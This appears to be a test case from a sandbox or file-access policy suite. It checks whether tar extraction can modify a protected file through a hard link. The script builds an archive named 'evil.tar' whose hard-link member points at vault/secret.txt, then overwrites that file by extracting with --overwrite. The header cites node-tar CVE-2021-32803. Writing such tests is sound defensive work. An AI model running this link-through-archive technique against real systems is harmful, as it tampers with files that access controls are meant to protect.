# technique: extracts a hard link to the forbidden file and then a member that is written through it
# source: tar(1), --overwrite; CVE-2021-32803 and its kin (node-tar)
# success: vault/secret.txt was changed or removed
# policy: kept
# control: permissive
# needs: python3
# event: FileLink
python3 - <<'END'
import io, tarfile
with tarfile.open('evil.tar', 'w') as archive:
    link = tarfile.TarInfo('way')
    link.type = tarfile.LNKTYPE
    link.linkname = 'vault/secret.txt'
    archive.addfile(link)
    written = tarfile.TarInfo('way')
    written.size = 8
    archive.addfile(written, io.BytesIO(b'planted\n'))
END
tar --extract --overwrite --file evil.tar
